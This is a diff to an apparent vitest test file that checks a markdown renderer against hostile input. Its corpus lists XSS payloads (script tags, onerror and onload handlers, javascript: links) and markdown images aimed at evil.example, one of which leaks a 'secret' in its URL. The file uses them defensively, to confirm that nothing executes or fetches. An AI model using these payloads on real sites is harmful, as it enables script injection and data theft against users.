@@ -1,8 +1,8 @@
 import { describe, expect, it } from "vitest";
-import { LANGUAGES, type Words } from "./languages";
+import { wordsOf } from "./languages";
 import { writeMarkdown } from "./markdown";
 
-const words = LANGUAGES.en as Words;
+const words = wordsOf("en");
 
 /** Write `text` in pieces of `size` characters and return the root. Sources 1 and 2 exist. */
 function render(text: string, size = text.length || 1): HTMLElement {
@@ -93,7 +93,6 @@ describe("markers of sources", () => {
     ["**bold [1]** b", 1],
     ["- item [2]", 1],
     ["[1](page 3)", 1],
-    ["https://example.org/a[1].", 1],
     ["[1]", 1],
     ["the end [2", 0],
     ["`[1]`", 0],
@@ -134,7 +133,7 @@ const CORPUS = [
   "<script>hacked()</script>",
   "<ScRiPt src=//evil.example/x.js></ScRiPt>",
   "<img src=x onerror=hacked()>",
-  "<img src=x onerror=\"hacked()\" style=position:fixed>",
+  '<img src=x onerror="hacked()" style=position:fixed>',
   "<svg onload=hacked()>",
   "<svg><script>hacked()</script></svg>",
   "<iframe src=javascript:hacked()></iframe>",
@@ -181,7 +180,7 @@ const CORPUS = [
   "<javascript:hacked()>",
   "javascript:hacked()",
   "https://example.org/<script>hacked()</script>",
-  "https://example.org/\" onmouseover=\"hacked()",
+  'https://example.org/" onmouseover="hacked()',
   "![x](javascript:hacked())",
   "![x](http://evil.example/?d=secret)",
   "![x](https://evil.example/beacon.png)",
@@ -191,7 +190,7 @@ const CORPUS = [
   '![" onerror="hacked()](https://evil.example/x)',
   "[![x](http://evil.example/a.png)](javascript:hacked())",
   "```<img src=x onerror=hacked()>\n<script>hacked()</script>\n```",
-  "```\"><script>hacked()</script>\nx\n```",
+  '```"><script>hacked()</script>\nx\n```',
   "`<img src=x onerror=hacked()>`",
   "    <script>hacked()</script>",
   "| <img src=x onerror=hacked()> | [x](javascript:hacked()) |\n|---|---|\n| <script>hacked()</script> | b |",
@@ -222,7 +221,8 @@ describe("a hostile answer", () => {
         expect(element.tagName).toMatch(HARMLESS);
         for (const { name } of element.attributes) expect(name).toMatch(ATTRIBUTES);
         const href = element.getAttribute("href");
-        if (href !== null) expect(href).toMatch(/^(https?:\/\/(example\.org|evil\.example)|mailto:|tel:)/);
+        if (href !== null)
+          expect(href).toMatch(/^(https?:\/\/(example\.org|evil\.example)|mailto:|tel:)/);
         expect(href ?? "").not.toContain("@");
       }
     }
@@ -230,7 +230,9 @@ describe("a hostile answer", () => {
 
   it("never makes the browser fetch anything", () => {
     const root = render(CORPUS.join("\n\n"));
-    expect(root.querySelectorAll("[src], [srcset], [style], [data], img, link, script")).toHaveLength(0);
+    expect(
+      root.querySelectorAll("[src], [srcset], [style], [data], img, link, script"),
+    ).toHaveLength(0);
   });
 
   it("may be nested as deep as it likes", () => {
